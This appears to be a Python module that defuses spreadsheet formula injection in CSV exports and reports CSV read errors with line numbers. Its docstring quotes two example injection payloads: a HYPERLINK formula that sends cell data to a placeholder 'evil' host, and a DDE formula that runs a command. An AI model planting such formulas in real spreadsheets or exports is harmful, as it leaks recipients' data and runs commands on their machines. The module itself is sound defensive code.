"""CSV for people and from people: one writer that defuses spreadsheet formulas, one
reader loop that turns the csv module's failures into positioned errors.

Writing
-------
A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A2)``,
``=cmd|' /C calc'!A0``). :func:`neutralize` prefixes such a cell with an apostrophe
(``'``), which spreadsheets show as text and do not evaluate (the OWASP advice). Numbers
stay numbers: ``-3``, ``+1.5`` and ``-2e3`` are written as they are. A cell that already
starts with an apostrophe gets one more, so that :func:`restore` is an exact inverse:

    restore(neutralize(x)) == x   for every string x

Files the product reads back (workspace CSVs, ``careerpaths export``) are written with
:func:`writer` and read with :func:`restore` applied to every cell, so round-trips lose
nothing. See docs/workspace.md, "Cells that start with = + - @".

Reading
-------
:func:`rows` iterates ``csv.reader`` and converts ``_csv.Error`` (a cell longer than
131,072 characters, a NUL byte) into :class:`CsvReadError` with the line, and reports a
file cut off inside a quoted cell.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Where a row's text may need defusing or quoting: a cell that starts with what
# neutralize() looks at (or an apostrophe), or a carriage return anywhere.
_RISKY = re.compile(r"(?:^|\0)[=+\-@\t']|\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
#: Longest cell read (the csv module's default limit, which other readers may raise
#: process-wide: it is checked here explicitly).
MAX_CELL = 131_072


def neutralize(cell: object) -> object:
    """``cell`` made safe to open in a spreadsheet (non-strings are returned unchanged)."""
    if not isinstance(cell, str) or not cell:
        return cell
    if cell[0] == "'":
        return "'" + cell
    if cell[0] in _DANGEROUS and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The inverse of :func:`neutralize` for a cell read back from a file the product wrote."""
    if cell[:1] == "'" and len(cell) > 1 and (cell[1] == "'" or cell[1] in _DANGEROUS):
        return cell[1:]
    return cell


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...
    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None: ...


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralize`.

    A row with a carriage return in a cell is written fully quoted: ``csv.writer`` with
    ``lineterminator="\n"`` does not quote a lone ``\r``, which readers take as a line end.
    """

    def __init__(self, inner: _Writer, quoted: _Writer | None = None) -> None:
        self._inner = inner
        self._quoted = quoted or inner

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = row if isinstance(row, list) else list(row)
        # Most rows have no cell to defuse: one look at the row's text joined (each cell
        # starts at the start or after a NUL) instead of a call per cell. A row of other
        # values than text, or one the look finds something in, takes the cell-by-cell way.
        try:
            joined = "\0".join(cells)
        except TypeError:
            joined = None
        if joined is not None and _RISKY.search(joined) is None:
            return self._inner.writerow(cells)
        cells = [neutralize(c) for c in cells]
        if any(isinstance(c, str) and "\r" in c for c in cells):
            return self._quoted.writerow(cells)
        return self._inner.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose cells (and header) pass through :func:`neutralize`."""

    def _dict_to_list(self, rowdict: Any) -> Any:
        return [neutralize(c) for c in super()._dict_to_list(rowdict)]  # type: ignore[misc]


def writer(f: Any, **kwargs: Any) -> SafeWriter:
    """The one CSV writer for files people open: ``csv.writer(f, **kwargs)``, defused."""
    quoted = {**kwargs, "quoting": csv.QUOTE_ALL}
    return SafeWriter(csv.writer(f, **kwargs), csv.writer(f, **quoted))


class CsvReadError(ValueError):
    """A CSV that cannot be read past ``line``."""

    def __init__(self, line: int, reason: str) -> None:
        self.line = line
        self.reason = reason
        super().__init__(f"line {line}: {reason}")


def rows(text: str, **kwargs: Any) -> Iterator[tuple[int, list[str]]]:
    """``(first line, cells)`` of every record of ``text``; csv errors become
    :class:`CsvReadError` at the record's line, and a file that ends inside a quoted
    cell (cut off) is reported rather than read as one long last cell."""
    import io

    reader = csv.reader(io.StringIO(text, newline=""), strict=False, **kwargs)
    start = 1
    last_line = text.count("\n") + (0 if text.endswith("\n") else 1)
    while True:
        try:
            row = next(reader)
        except StopIteration:
            return
        except csv.Error as exc:
            reason = str(exc)
            if "field larger than field limit" in reason:
                reason = f"a cell is longer than {MAX_CELL:,} characters"
            raise CsvReadError(start, reason) from None
        end = reader.line_num
        if any(len(c) > MAX_CELL for c in row):
            raise CsvReadError(start, f"a cell is longer than {MAX_CELL:,} characters")
        if end >= last_line and _ends_inside_quotes(text, start):
            raise CsvReadError(
                start, "the file ends inside a quoted cell (it looks cut off): close the quote"
            )
        yield start, row
        start = end + 1


def _ends_inside_quotes(text: str, start_line: int) -> bool:
    """True when the record beginning at ``start_line`` runs to the end of ``text`` with
    an odd number of quote characters (a quoted cell never closed)."""
    pos = 0
    for _ in range(start_line - 1):
        nxt = text.find("\n", pos)
        if nxt < 0:
            return False
        pos = nxt + 1
    rest = text[pos:]
    return rest.count('"') % 2 == 1
